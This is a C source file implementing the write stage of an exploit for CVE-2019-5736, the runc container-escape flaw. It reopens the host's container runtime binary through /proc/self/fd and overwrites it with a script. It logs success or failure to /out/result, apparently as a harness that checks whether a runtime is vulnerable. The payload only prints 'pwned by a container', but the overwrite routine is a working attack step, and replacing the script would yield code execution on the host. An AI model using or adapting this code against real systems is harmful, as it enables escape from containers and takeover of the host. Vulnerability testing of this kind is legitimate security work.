/* exewriter FD: the second half of the CVE-2019-5736 exploit. FD is an O_RDONLY
 * descriptor of the runtime's binary (opened through /proc/self/exe by
 * preload_attack.c). Once no process executes the binary any more (no ETXTBSY),
 * reopen it for writing through /proc/self/fd/FD and overwrite it. Appends its
 * verdict to /out/result: "wrote N" or "write-failed ERRNO". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%s", argc > 1 ? argv[1] : "3");
	int out = open("/out/result", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	int last = 0;
	for (int i = 0; i < 400; i++) { /* about 4 s */
		int w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			static const char evil[] = "#!/bin/sh\necho pwned by a container\n";
			ssize_t n = write(w, evil, sizeof(evil) - 1);
			dprintf(out, "wrote %zd\n", n);
			return 0;
		}
		last = errno;
		usleep(10000);
	}
	dprintf(out, "write-failed %s\n", strerrorname_np(last));
	return 0;
}
